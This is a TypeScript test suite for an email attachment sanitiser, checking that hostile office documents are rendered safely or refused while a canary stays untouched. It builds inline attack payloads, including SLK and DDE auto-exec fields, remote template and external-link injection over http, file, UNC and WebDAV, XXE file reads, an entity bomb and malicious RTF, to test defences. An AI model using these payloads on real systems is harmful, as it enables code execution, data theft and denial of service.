// Attack catalogue, rows 68 to 83: office documents. They hold whether a format is rendered or refused: the output contract, one of
// the ends, bounded time, and a canary (listener, secret, program) that nobody touches.
// A few files a row here; `npm run test:corpus` takes them all.
import assert from 'node:assert/strict';
import { after, afterEach, before, describe } from 'node:test';
import { LIMITS } from '../../src/message/limits.ts';
import { zip } from '../support/archives.ts';
import { corpus, corpusFiles, row } from '../support/attack-row.ts';
import { openCanary, type Canary } from '../support/canary.ts';
import { openSanitiser, type Outcome, type Sanitiser } from '../support/sanitiser.ts';

let sanitiser: Sanitiser;
let canary: Canary;
before(async () => {
  [sanitiser, canary] = await Promise.all([openSanitiser(), openCanary()]);
});
afterEach(async () => assert.deepEqual(await canary.touched(), []));
after(async () => {
  await sanitiser[Symbol.asyncDispose]();
  await canary[Symbol.asyncDispose]();
});

const LIMIT_MS = 180_000;

async function one(name: string, bytes: Buffer | string): Promise<Outcome> {
  const outcome = await sanitiser.file(name, bytes);
  assert.match(outcome.state, /^(sanitised|held|refused)$/, name);
  assert.ok(outcome.ms < LIMIT_MS, `${name}: ${outcome.ms} ms`);
  if (outcome.state === 'refused') assert.equal(outcome.files.size, 0, name);
  for (const [file, output] of outcome.files) {
    assert.match(file, /\.(pdf|png|jpg|txt)$/, name);
    assert.ok(!output.includes(canary.secret), `${name}: the secret is in ${file}`);
    assert.ok(!Buffer.from(canary.secret, 'utf16le').swap16().equals(output), name);
  }
  return outcome;
}

/** Each document to one of the ends; then a mail passes. */
async function each(paths: readonly string[]): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  for (const path of paths) outcomes.push(await one(path.split('/').at(-1) ?? '', await corpus(path)));
  assert.match((await sanitiser.mail('From: a@example.com\r\n\r\nnext\r\n')).text, /next/);
  return outcomes;
}

const OFFICE = 'http://schemas.openxmlformats.org';
const WORD = `${OFFICE}/wordprocessingml/2006/main`;
const LINKS = `${OFFICE}/officeDocument/2006/relationships`;

/** A docx of this body; `links`: relationships of the document, `files`: further entries. */
function docx(body: string, links = '', files: Readonly<Record<string, string>> = {}): Buffer {
  const entries = {
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="${OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="${OFFICE}/package/2006/relationships"><Relationship Id="r1" Type="${LINKS}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="${WORD}" xmlns:r="${LINKS}"><w:body>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="${OFFICE}/package/2006/relationships">${links}</Relationships>`,
    ...files,
  };
  return zip(Object.entries(entries).map(([name, text]) => ({ name, data: Buffer.from(text) })));
}
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const external = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${LINKS}/${type}" Target="${target}" TargetMode="External"/>`;

describe('office documents', () => {
  row(68, 'macros do not run and do not leave', async () => {
    await each([
      'hostile/office-poi/document-SimpleMacro.docm',
      'hostile/office-tika/testODSMacro.ods',
      'hostile/office-poi/slideshow-WithMacros.ppt',
    ]);
  });

  row(69, 'Excel 4.0 macros and SLK do not run', async () => {
    await each(corpusFiles('hostile/office-oletools', /^excel4-macros-/).slice(0, 2));
    await one(
      'a.slk',
      `ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC("${canary.programPath}")\nE\n`,
    );
  });

  row(70, 'DDE fields start nothing; they are shown as stored, or the file is refused', async () => {
    await each([
      ...corpusFiles('hostile/office-oletools', /^msodde-.*\.(?:docx|csv)$/).slice(0, 2),
      'hostile/office-tika/testDdeLink.xlsx',
    ]);
    await one(
      'dde.docx',
      docx(
        `<w:p><w:fldSimple w:instr="DDEAUTO ${canary.programPath} x"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>`,
      ),
    );
  });

  row(71, 'objects, packages and controls inside are neither run nor passed', async () => {
    await each([
      ...corpusFiles('hostile/office-oletools', /^oleobj-embedded-/).slice(0, 1),
      'hostile/office-tika/testRTFEmbeddedFiles.rtf',
    ]);
  });

  row(
    72,
    'nothing outside is loaded: template, picture, object, frame, sub-document, data; by http, file, UNC and WebDAV',
    async () => {
      const types = [
        'attachedTemplate',
        'image',
        'oleObject',
        'frame',
        'subDocument',
        'mailMergeSource',
        'hyperlink',
        'stylesheet',
        'externalLink',
        'aFChunk',
        'video',
        'externalLinkPath',
      ];
      for (const [scheme, target] of [
        ['http', `http://${canary.host}/x`],
        ['file', `file://${canary.secretPath}`],
        ['UNC', `\\\\${canary.host.replace(':', '@')}\\share\\x`],
        ['WebDAV', `http://${canary.host}/dav/x.dotm`],
      ] as const) {
        const links = types.map((type, at) => external(`x${at}`, type, target)).join('');
        const picture = `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="x1"/></v:shape></w:pict></w:r></w:p>`;
        const settings = `<?xml version="1.0"?><w:settings xmlns:w="${WORD}" xmlns:r="${LINKS}"><w:attachedTemplate r:id="x0"/></w:settings>`;
        await one(
          `${scheme}.docx`,
          docx(
            `${paragraph('shown')}${picture}<w:subDoc r:id="x4"/><w:altChunk r:id="x9"/><w:p><w:fldSimple w:instr='INCLUDEPICTURE "${target}"'/></w:p>`,
            links,
            {
              'word/settings.xml': settings,
              'word/_rels/settings.xml.rels': `<Relationships xmlns="${OFFICE}/package/2006/relationships">${external('x0', 'attachedTemplate', target)}</Relationships>`,
            },
          ),
        );
      }
      await each([
        'hostile/office-tika/testAttachedTemplate.docx',
        'hostile/office-tika/testExternalRefs.docx',
        ...corpusFiles('hostile/office-oletools', /^oleobj-sample_with_external_link_/).slice(0, 1),
      ]);
    },
  );

  row(73, 'files of this machine are not read into a page', async () => {
    for (const field of ['INCLUDETEXT', 'INCLUDEPICTURE'])
      await one('local.docx', docx(`<w:p><w:fldSimple w:instr='${field} "${canary.secretPath}"'/></w:p>`));
    await one(
      'local.fodt',
      `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:section text:name="a"><text:section-source xlink:href="file://${canary.secretPath}"/></text:section></office:text></office:body></office:document>`,
    );
    await each([
      'hostile/office-tika/testInstrLink.docx',
      'hostile/office-poi/spreadsheet-link-external-workbook-a.xlsx',
    ]);
  });

  row(74, 'external entities are not resolved', async () => {
    for (const entity of [
      `SYSTEM "file://${canary.secretPath}"`,
      `SYSTEM "http://${canary.host}/x"`,
      `PUBLIC "x" "http://${canary.host}/x"`,
    ]) {
      const body = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e ${entity}><!ENTITY % p ${entity}> %p;]><w:document xmlns:w="${WORD}"><w:body>${paragraph('&e;')}</w:body></w:document>`;
      await one(
        'xxe.docx',
        docx('', '', { 'word/document.xml': body, 'word/_rels/document.xml.rels': body, '[Content_Types].xml': body }),
      );
    }
    await each([
      'hostile/office-poi/document-ExternalEntityInText.docx',
      'hostile/office-poi/spreadsheet-xxe_in_schema.xlsx',
      ...corpusFiles('hostile/office-poi', /^openxml4j-.*HasEntities\.ooxml$/).slice(0, 1),
    ]);
  });

  row(75, 'bombs of entities and strings are refused or bounded, and a mail passes meanwhile', async () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "${'lol'.repeat(100)}">${Array.from({ length: 8 }, (_, at) => `<!ENTITY ${'bcdefghi'[at]} "${`&${'abcdefgh'[at]};`.repeat(100)}">`).join('')}]><w:document xmlns:w="${WORD}"><w:body>${paragraph('&i;')}</w:body></w:document>`;
    const [, mail] = await Promise.all([
      one('lol.docx', docx('', '', { 'word/document.xml': lol })),
      sanitiser.mail('From: a@example.com\r\n\r\nmeanwhile\r\n'),
    ]);
    assert.match(mail.text, /meanwhile/);
    // The other bomb of the corpus (shared strings) takes its whole time: npm run test:corpus.
    await each(['hostile/office-poi/spreadsheet-poc-xmlbomb.xlsx']);
  });

  row(76, 'hidden sheets, comments and deleted words: not in the output, or told', async () => {
    for (const outcome of await each([
      'office/poi/spreadsheet-TwoSheetsOneHidden.xlsx',
      'office/poi/document-delins.docx',
      'office/poi/document-comment.docx',
    ])) {
      if (outcome.state !== 'sanitised') assert.notEqual(outcome.reason, null);
    }
  });

  row(
    77,
    'encrypted documents are held or refused; the default password makes no exception for what is inside',
    async () => {
      for (const outcome of await each([
        ...corpusFiles('hostile/office-oletools', /^encrypted-/).slice(0, 2),
        'office/poi/poifs-protected_agile.docx',
      ]))
        assert.notEqual(outcome.state === 'sanitised' && outcome.files.size === 0, true);
    },
  );

  row(78, 'documents that are something else: the bytes decide, and unknown ones are refused', async () => {
    await each([
      'hostile/office-tika/testAltChunkMHT.docx',
      'office/tika/testWORD2003.xml',
      'office/tika/testODTnotaZipFile.odt',
    ]);
    for (const [name, bytes] of [
      ['a.doc', '{\\rtf1 text}'],
      ['a.doc', '<html><script>evil()</script><p>text</p></html>'],
      ['a.xls', 'a\tb\n1\t2\n'],
      ['a.docx', 'MZ\x90\0'],
      ['報告書.pdf', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR'],
    ] as const) {
      const outcome = await one(name, Buffer.from(bytes, 'latin1'));
      if (outcome.parts[0]?.detectedType !== 'application/octet-stream')
        assert.ok(
          outcome.parts[0]?.findings.some(({ code }) => code === 'type-mismatch'),
          name,
        );
      for (const file of outcome.files.values()) assert.ok(!file.includes('evil()'));
    }
  });

  row(79, 'documents in documents: depth is shared with archives and mails', async () => {
    await each(['hostile/office-poi/integration-test_recursive_embedded.docx']);
  });

  row(80, 'sheets and shows without end: no more pages than the limit, in bounded time', async () => {
    const sheet = `<?xml version="1.0"?><worksheet xmlns="${OFFICE}/spreadsheetml/2006/main"><dimension ref="A1:B120000"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="120000"><c r="B120000"><v>1</v></c></row></sheetData></worksheet>`;
    const workbook = zip(
      Object.entries({
        '[Content_Types].xml': `<Types xmlns="${OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
        '_rels/.rels': `<Relationships xmlns="${OFFICE}/package/2006/relationships"><Relationship Id="r1" Type="${LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
        'xl/workbook.xml': `<workbook xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${LINKS}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>`,
        'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${OFFICE}/package/2006/relationships"><Relationship Id="r1" Type="${LINKS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
        'xl/worksheets/sheet1.xml': sheet,
      }).map(([name, text]) => ({ name, data: Buffer.from(text) })),
    );
    const outcome = await one('huge.xlsx', workbook);
    assert.ok(outcome.parts.every((part) => part.pages <= LIMITS.pages));
  });

  row(81, 'documents that crashed office suites: an end each, and the next one is fine', async () => {
    await each([
      ...corpusFiles('hostile/office-poi', /clusterfuzz/).slice(0, 2),
      ...corpusFiles('hostile/office-poi', /crash/).slice(0, 2),
    ]);
  });

  row(82, 'RTF: objects, templates and huge tables', async () => {
    await one(
      't.rtf',
      `{\\rtf1{\\*\\template http://${canary.host}/x.dotm}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}${'{\\fonttbl{\\f0 x;}}'.repeat(20_000)} text}`,
    );
    await each(['hostile/office-oletools/rtfobj-issue_251.rtf', 'office/tika/testBinControlWord.rtf']);
  });

  row(83, 'formats that only carry programs are refused, alone and inside an archive', async () => {
    const programs: readonly (readonly [string, Buffer])[] = [
      ['a.exe', Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(500), Buffer.from('PE\0\0')])],
      ['a.elf', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(500)])],
      ['a.lnk', Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(200)])],
      ['a.chm', Buffer.concat([Buffer.from('ITSF\x03\0\0\0', 'latin1'), Buffer.alloc(200)])],
      ['a.one', Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(200)])],
      ['a.class', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(200)])],
      ['a.iso', Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001\x01'), Buffer.alloc(3000)])],
      ['a.swf', Buffer.concat([Buffer.from('CWS\x0a', 'latin1'), Buffer.alloc(200)])],
    ];
    for (const [name, bytes] of programs) {
      const outcome = await one(name, bytes);
      assert.equal(outcome.state, 'refused', `${name}: ${outcome.state}`);
      assert.equal((await one('x.zip', zip([{ name, data: bytes }]))).files.size, 0, `${name} in a zip`);
    }
    for (const [name, script] of [
      ['a.sh', `#!/bin/sh\n${canary.programPath}\n`],
      ['a.txt', `#! /usr/bin/env python3\nrun("${canary.programPath}")\n`],
      ['a.hta', `<html><head><HTA:APPLICATION id="x"></head><script>run("${canary.programPath}")</script></html>`],
      ['a.wsf', `<?xml version="1.0"?><job><script language="VBScript">run "${canary.programPath}"</script></job>`],
      ['a.vbe', '#@~^CAAAAA==run evil~~~~==^#~@'],
    ] as const)
      assert.equal((await one(name, script)).state, 'refused', name);
    // Other scripts cannot be told from a text: as a text they are shown, told, and under a name that runs nowhere.
    for (const name of ['a.js', 'a.vbs', 'a.bat', 'a.ps1', 'a.cmd']) {
      const { files, parts } = await one(name, `run("${canary.programPath}")\r\n`);
      for (const file of files.keys()) assert.match(file, /\.(txt|pdf)$/, name);
      assert.ok(
        parts[0]?.findings.some(({ code }) => code === 'script'),
        name,
      );
    }
  });
});
